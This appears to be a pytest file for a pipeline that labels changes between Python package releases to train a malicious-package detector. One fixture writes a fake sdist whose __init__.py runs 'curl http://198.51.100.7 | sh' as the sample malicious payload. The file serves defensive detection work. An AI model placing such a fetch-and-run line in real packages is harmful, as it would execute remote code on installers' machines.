"""Tests which pairs of releases are labelled, and what a labelled row holds and leaves out."""

import csv
import io
import tarfile
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from change_builders import digest, files, member, release, sdist, table, wheel

from features.contract import Role
from jobs.changes.compare import compare
from jobs.contract import ClusterSettings
from jobs.corpus.change_rows import (
    LABELS,
    MOST_MEMBERS,
    Pair,
    build_change_rows,
    built_pairs,
    honest_pairs,
    labelled_schema,
    labelled_table,
)
from jobs.corpus.contract import CorpusError
from jobs.corpus.payloads.contract import split_of
from model.rows import read_rows

LABEL = dict.fromkeys((field.name for field in LABELS), "") | {"label": 1, "split": "train", "family": "pth-line"}


def listed(*names: str) -> dict[str, dict[str, str]]:
    return {digest(name): {"stratum": "tail"} for name in names}


def manifest_row(name: str, base: str, host: str, **more: str) -> dict[str, str]:
    row = dict.fromkeys(("place", "trigger", "dress", "act", "donor", "stratum", "member", "other_members"), "x")
    return row | {
        "sha256": digest(name),
        "base_sha256": digest(base),
        "host_sha256": digest(host),
        "label": "1",
        "split": "train",
        "family": "pth-line",
        "host_project": "demo",
        **more,
    }


def test_honest_releases_are_compared_with_the_one_before_and_with_their_sibling() -> None:
    rows = files(sdist("1.0", day=0), sdist("1.1", day=9), wheel("1.1", day=9))
    names = ("demo-1.0.tar.gz", "demo-1.1.tar.gz", "demo-1.1-py3-none-any.whl")
    found = {(pair.sha256, pair.base_sha256, pair.base_kind) for pair in honest_pairs(rows, listed(*names))}
    first, second, third = map(digest, names)
    assert {
        (second, first, "release"),
        (third, first, "release"),
        (third, second, "sibling"),
        (second, third, "sibling"),
    } == found


def test_a_file_that_is_not_listed_is_no_honest_base() -> None:
    rows = files(sdist("1.0", day=0), sdist("1.1", day=9))
    assert [] == list(honest_pairs(rows, listed("demo-1.1.tar.gz")))


def test_all_pairs_of_a_project_have_one_split() -> None:
    rows = files(sdist("1.0", day=0), sdist("1.1", day=9))
    (pair,) = honest_pairs(rows, listed("demo-1.0.tar.gz", "demo-1.1.tar.gz"))
    assert (0, split_of("demo"), "tail") == (pair.label["label"], pair.label["split"], pair.label["stratum"])


def test_a_copy_of_a_true_release_has_its_base_and_its_honest_sibling() -> None:
    rows = files(sdist("1.0"), sdist("1.1"), wheel("1.1"), release("demo-1.1.tar.gz", path="built/demo-1.1.tar.gz"))
    row = manifest_row(
        "built/demo-1.1.tar.gz", "demo-1.0.tar.gz", "demo-1.1.tar.gz", member="a.py", other_members="b.py | c.py"
    )
    first, second = built_pairs(rows, [row])
    assert (digest("demo-1.0.tar.gz"), "release") == (first.base_sha256, first.base_kind)
    assert (digest("demo-1.1-py3-none-any.whl"), "sibling") == (second.base_sha256, second.base_kind)
    assert {"a.py", "b.py", "c.py"} == set(first.payload)


def test_a_raised_version_has_no_sibling() -> None:
    rows = files(sdist("1.0"), wheel("1.0"), release("demo-1.1.tar.gz", path="built/demo-1.1.tar.gz"))
    row = manifest_row("built/demo-1.1.tar.gz", "demo-1.0.tar.gz", "demo-1.0.tar.gz")
    assert ["release"] == [pair.base_kind for pair in built_pairs(rows, [row])]


def test_a_twin_has_no_payload() -> None:
    rows = files(sdist("1.0"), release("demo-1.1.tar.gz", path="built/demo-1.1.tar.gz"))
    row = manifest_row("built/demo-1.1.tar.gz", "demo-1.0.tar.gz", "demo-1.0.tar.gz", label="0", member="a.py")
    (pair,) = built_pairs(rows, [row])
    assert (0, frozenset()) == (pair.label["label"], pair.payload)


def test_a_row_names_its_payload_and_quotes_nothing() -> None:
    before = table(wheel("1.0", member("demo/a.py")))
    after = table(
        wheel(
            "1.1",
            member("demo/a.py"),
            member("demo/secret_name.py", role=Role.IMPORT, exec_decoded=1),
        )
    )
    changes = compare(after, before, ["release"])
    pair = Pair("a", "b", "release", LABEL, frozenset({"demo/secret_name.py"}))
    rows = labelled_table(changes, [pair])
    assert labelled_schema() == rows.schema
    (row,) = rows.to_pylist()
    (changed,) = row["changed_members"]
    assert (True, "new", "import") == (changed["payload"], changed["change"], changed["role"])
    assert (1, "train", "pth-line") == (row["label"], row["split"], row["family"])
    assert "secret_name" not in str(row)


def test_members_of_a_row_are_bounded() -> None:
    before = table(wheel("1.0"))
    after = table(wheel("1.1", *(member(f"demo/m{number}.py", exec_call=1) for number in range(99))))
    changes = compare(after, before, ["release"])
    (row,) = labelled_table(changes, [Pair("a", "b", "release", LABEL)]).to_pylist()
    assert MOST_MEMBERS == len(row["changed_members"])


def write_sdist(path: Path, version: str, code: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(path, "w:gz") as archive:
        info = f"Metadata-Version: 2.1\nName: demo\nVersion: {version}\n"
        for name, text in {"PKG-INFO": info, "demo/__init__.py": code}.items():
            entry = tarfile.TarInfo(f"demo-{version}/{name}")
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))


def write_csv(path: Path, rows: list[dict[str, Any]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


@pytest.mark.slow
def test_two_trees_become_labelled_changes(on_cluster: ClusterSettings, tmp_path: Path) -> None:
    releases, payloads = tmp_path / "releases", tmp_path / "payloads"
    for version in ("1.0", "1.1"):
        write_sdist(releases / f"demo-{version}.tar.gz", version, f"x = '{version}'\n")
    write_sdist(
        payloads / "train" / "demo-1.1.tar.gz", "1.1", "import os\nos.system('curl http://198.51.100.7 | sh')\n"
    )
    import hashlib

    sums = {
        path.relative_to(tmp_path): hashlib.sha256(path.read_bytes()).hexdigest() for path in tmp_path.rglob("*.gz")
    }
    first, second = sums[Path("releases/demo-1.0.tar.gz")], sums[Path("releases/demo-1.1.tar.gz")]
    write_csv(
        tmp_path / "releases.csv",
        [
            {"project": "demo", "version": version, "filename": f"demo-{version}.tar.gz", "sha256": sha256, "stratum": "tail"}
            for version, sha256 in (("1.0", first), ("1.1", second))
        ],
    )  # fmt: skip
    row = manifest_row("", "", "", member="demo-1.1/demo/__init__.py") | {
        "path": "train/demo-1.1.tar.gz",
        "sha256": sums[Path("payloads/train/demo-1.1.tar.gz")],
        "base_sha256": first,
        "host_sha256": second,
        "split": "test",
    }
    write_csv(payloads / "manifest.csv", [row])
    built = build_change_rows(
        releases,
        tmp_path / "releases.csv",
        [payloads],
        tmp_path / "work",
        tmp_path / "changes.parquet",
        rows_into=tmp_path / "own.parquet",
        settings=on_cluster,
    )
    assert (1, 1, 0) == (built.payloads, built.honest, built.missing)
    assert {"releases", "payloads"} <= {path.name for path in (tmp_path / "work").iterdir()}
    rows = pq.read_table(built.path).to_pylist()
    assert {0, 1} == {row["label"] for row in rows}
    (bad,) = [row for row in rows if row["label"]]
    assert [True] == [changed["payload"] for changed in bad["changed_members"] if changed["role"] == "import"]
    own = read_rows(tmp_path / "own.parquet")
    payload = own.malicious
    assert [("payloads", "variant", bad["sha256"])] == list(
        zip(own.stratum[payload], own.split[payload], own.sha256[payload], strict=True)
    )
    assert {"releases"} >= set(own.stratum[~payload])


def test_a_manifest_or_a_list_without_lines_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "releases.csv").write_text("project,filename,sha256,stratum\n")
    for name in ("payloads", "more"):
        write_csv(tmp_path / name / "manifest.csv", [manifest_row("a", "b", "c") | {"path": "p"}])
    folders = [tmp_path / "payloads", tmp_path / "more"]
    with pytest.raises(CorpusError, match=r"releases\.csv: lists nothing"):
        build_change_rows(tmp_path, tmp_path / "releases.csv", folders, tmp_path / "out", tmp_path / "c.parquet")
    (tmp_path / "releases.csv").write_text("project,filename,sha256,stratum\np,p-1.tar.gz,00,tail\n")
    head = (tmp_path / "more" / "manifest.csv").read_text().splitlines()[0]
    (tmp_path / "more" / "manifest.csv").write_text(f"{head}\n")
    with pytest.raises(CorpusError, match="more: lists nothing"):
        build_change_rows(tmp_path, tmp_path / "releases.csv", folders, tmp_path / "out", tmp_path / "c.parquet")


@pytest.mark.parametrize("names", [("payloads", "other/payloads"), ("releases",)])
def test_two_trees_of_one_name_are_an_error(names: tuple[str, ...], tmp_path: Path) -> None:
    folders = [tmp_path / name for name in names]
    with pytest.raises(CorpusError, match="has the name of another tree"):
        build_change_rows(tmp_path, tmp_path / "releases.csv", folders, tmp_path / "out", tmp_path / "c.parquet")


def test_payloads_for_measuring_alone_are_not_mixed_with_others(tmp_path: Path) -> None:
    (tmp_path / "releases.csv").write_text("project,filename,sha256,stratum\np,p-1.tar.gz,00,tail\n")
    for name, split in (("payloads", "train"), ("measured", "blind")):
        write_csv(tmp_path / name / "manifest.csv", [manifest_row("a", "b", "c", split=split) | {"path": "p"}])
    folders = [tmp_path / "payloads", tmp_path / "measured"]
    with pytest.raises(CorpusError, match=r"c\.parquet: would hold payloads of the split blind beside train"):
        build_change_rows(tmp_path, tmp_path / "releases.csv", folders, tmp_path / "out", tmp_path / "c.parquet")
    assert not (tmp_path / "c.parquet").exists()
